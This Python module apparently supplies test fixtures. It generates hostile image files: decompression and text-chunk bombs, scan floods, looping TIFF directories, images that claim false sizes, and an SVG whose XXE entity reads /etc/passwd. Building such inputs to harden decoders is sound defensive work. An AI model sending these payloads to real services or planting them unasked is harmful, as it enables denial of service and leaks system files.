"""What hostile files are made of, written byte by byte or by an ordinary encoder."""

from __future__ import annotations

import importlib
import io
import struct
import zlib
from collections.abc import Callable
from functools import cache

import numpy as np
from PIL import Image

MakeFile = Callable[[int], bytes]


def picture(width: int = 64, height: int = 48) -> Image.Image:
    """A picture with some structure."""
    x_W, y_H = np.linspace(0, 255, width), np.linspace(0, 255, height)
    rgb_HWC = np.stack([np.tile(x_W, (height, 1)), np.tile(y_H[:, None], (1, width)), np.full((height, width), 60)], -1)
    return Image.fromarray(rgb_HWC.astype(np.uint8))


def saved(image: Image.Image, format_name: str, **options: object) -> bytes:
    """A picture as a file."""
    buffer = io.BytesIO()
    image.save(buffer, format_name, **options)
    return buffer.getvalue()


@cache
def plain(format_name: str) -> bytes:
    """An honest file of a format."""
    return saved(picture(), format_name)


def chunk(kind: bytes, body: bytes) -> bytes:
    """A chunk of PNG."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(before_pixels: bytes, width: int = 64, height: int = 48) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(bytes((width + 1) * height), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + before_pixels + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def segment(marker: int, body: bytes) -> bytes:
    """A segment of JPEG."""
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def jpeg(before_pixels: bytes) -> bytes:
    honest = plain("JPEG")
    return honest[:2] + before_pixels + honest[2:]


def directory(num_entries: int, shared_bytes: int) -> bytes:
    """A TIFF directory whose entries all claim the same data: little to send, much to hold."""
    offset = 8 + 2 + 12 * num_entries + 4
    entries = b"".join(struct.pack("<HHII", 0x0200 + tag, 7, shared_bytes, offset) for tag in range(num_entries))
    return b"II*\0\x08\0\0\0" + struct.pack("<H", num_entries) + entries + bytes(4 + shared_bytes)


def repeated(unit: bytes, budget: int) -> bytes:
    return unit * (budget // len(unit))


def gif(extensions: bytes) -> bytes:
    honest = plain("GIF")
    start = 13 + 3 * 2 ** ((honest[10] & 7) + 1)
    return honest[:start] + extensions + honest[start:]


def _riff(chunks: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", 4 + len(chunks)) + b"WEBP" + chunks


def riff_chunk(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + bytes(len(body) % 2)


def webp(before_pixels: bytes, canvas: tuple[int, int] = (64, 48)) -> bytes:
    flags = struct.pack("<I", 0x08)
    size = struct.pack("<I", canvas[0] - 1)[:3] + struct.pack("<I", canvas[1] - 1)[:3]
    return _riff(riff_chunk(b"VP8X", flags + size) + plain("WEBP")[12:] + before_pixels)


def animation(format_name: str, num_frames: int, **options: object) -> bytes:
    frames = [Image.new("RGB", (16, 16), (n * 40 % 256, n // 6 % 256, 0)) for n in range(num_frames)]
    options |= {"lossless": True} if format_name == "WEBP" else {}
    return saved(frames[0], format_name, save_all=True, append_images=frames[1:], duration=20, **options)


def webp_animation(budget: int) -> bytes:
    """As many frames as fit; the same one over and over."""
    two = animation("WEBP", 2)
    start = two.index(b"ANMF")
    frame = two[start : start + 8 + struct.unpack_from("<I", two, start + 4)[0]]
    return _riff(two[12:start] + repeated(frame, budget))


def gif_animation(budget: int) -> bytes:
    two = animation("GIF", 2)
    start = two.index(b"\x21\xf9", two.index(b"\x2c"))
    return two[:start] + repeated(two[start:-1], budget) + b";"


def progressive_bomb(num_scans: int, side_px: int) -> bytes:
    """A progressive JPEG of one colour in which nothing is refined over and over, which costs a pass each time."""
    whole = saved(Image.new("L", (side_px, side_px), 90), "JPEG", progressive=True, quality=50)
    last = whole.rindex(b"\xff\xda")
    return whole[:last] + whole[last:-2] * num_scans + whole[-2:]


def scan_upon_scan(side_px: int) -> MakeFile:
    def make(budget: int) -> bytes:
        one = len(progressive_bomb(2, side_px)) - len(progressive_bomb(1, side_px))
        return progressive_bomb(budget // one - 10, side_px)

    return make


def bmp_rle(budget: int) -> bytes:
    """7,000 × 7,000 pixels of run-length coding in runs of one pixel."""
    side = 7000
    runs = repeated(b"\x01\x05", budget)
    start = 14 + 40 + 1024
    head = struct.pack("<2sIHHI", b"BM", start + len(runs), 0, 0, start)
    info = struct.pack("<IiiHHIIiiII", 40, side, side, 1, 8, 1, len(runs), 0, 0, 256, 0)
    return head + info + bytes(1024) + runs


def tiff_of(entries: list[tuple[int, int, int, int]], after: bytes = b"", next_directory: int = 0) -> bytes:
    """A little-endian TIFF with one directory."""
    packed = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + packed + struct.pack("<I", next_directory) + after


def tiff_basics(width: int, height: int, compression: int, offset: int, length: int) -> list[tuple[int, int, int, int]]:
    return [
        (256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, compression), (262, 3, 1, 1),
        (273, 4, 1, offset), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, length),
    ]  # fmt: skip


def tiff_bomb(width: int, height: int) -> bytes:
    body = zlib.compress(bytes(width * min(height, 2000)), 9)
    offset = 8 + 2 + 12 * 9 + 4
    return tiff_of(tiff_basics(width, height, 8, offset, len(body)), body)


def tiff_shared_tags(budget: int) -> bytes:
    """A picture with 2,000 more tags, each of which claims nearly the whole file."""
    num_more = 2000
    offset = 8 + 2 + 12 * (9 + num_more) + 4
    shared = budget - offset
    entries = tiff_basics(64, 48, 1, offset, 64 * 48)
    entries += [(40000 + number, 7, shared, offset) for number in range(num_more)]
    return tiff_of(entries, bytes(shared))


def tiff_directories(budget: int) -> bytes:
    """Pages after pages: each directory names the next one."""
    one = 2 + 12 * 9 + 4
    pixels = 64 * 48
    count = max(1, (budget - pixels) // one)
    packed = b"".join(struct.pack("<HHII", *entry) for entry in tiff_basics(64, 48, 1, 8, pixels))
    start = 8 + pixels
    pages = b"".join(
        struct.pack("<H", 9) + packed + struct.pack("<I", start + one * (number + 1) if number + 1 < count else 0)
        for number in range(count)
    )
    return b"II*\0" + struct.pack("<I", start) + bytes(pixels) + pages


def fax(_: int) -> bytes:
    """A page one pixel wide and 40 million lines long, in which no line can be read."""
    offset, body = 8 + 2 + 12 * 9 + 4, b"\xaa\x55" * 500_000
    entries = [(tag, kind, count, 1 if tag == 258 else value) for tag, kind, count, value in
               tiff_basics(1, 40_000_000, 4, offset, len(body))]  # fmt: skip
    return tiff_of(entries, body)


def tiff_circle(_: int) -> bytes:
    offset = 8 + 2 + 12 * 9 + 4
    return tiff_of(tiff_basics(64, 48, 1, offset, 64 * 48), bytes(64 * 48), next_directory=8)


def webp_canvas(_: int) -> bytes:
    """An animation that says it is 16,383 px a side."""
    data = bytearray(animation("WEBP", 2))
    at = data.index(b"VP8X") + 8
    data[at + 4 : at + 10] = struct.pack("<I", 16382)[:3] * 2
    return bytes(data)


def resized_ispe(data: bytes, width: int, height: int) -> bytes:
    """AVIF or HEIC whose container says another size than its stream."""
    at = data.index(b"ispe") + 8
    return data[:at] + struct.pack(">II", width, height) + data[at + 8 :]


def avif(side_px: int, **options: object) -> bytes:
    return saved(Image.new("L", (side_px, side_px), 90), "AVIF", speed=10, quality=10, **options)


def heic(side_px: int) -> bytes:
    """HEIC of one colour, where pillow-heif is installed."""
    importlib.import_module("pillow_heif").register_heif_opener()
    return saved(Image.new("RGB", (side_px, side_px), (9, 90, 9)), "HEIF", quality=10)


def text_bomb(kind: bytes, budget: int) -> bytes:
    """Compressed text that unfolds to a thousand times its size."""
    packed = zlib.compress(bytes(min(budget, 100_000) * 900), 9)
    if kind == b"zTXt":
        return png(chunk(kind, b"note\0\0" + packed))
    if kind == b"iTXt":
        return png(chunk(kind, b"note\0\1\0\0\0" + packed))
    return png(chunk(kind, b"profile\0\0" + packed))


def svg(_: int) -> bytes:
    return b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg>&a;</svg>"


def jpeg_size(side_px: int) -> bytes:
    data = bytearray(plain("JPEG"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", side_px, side_px)
    return bytes(data)
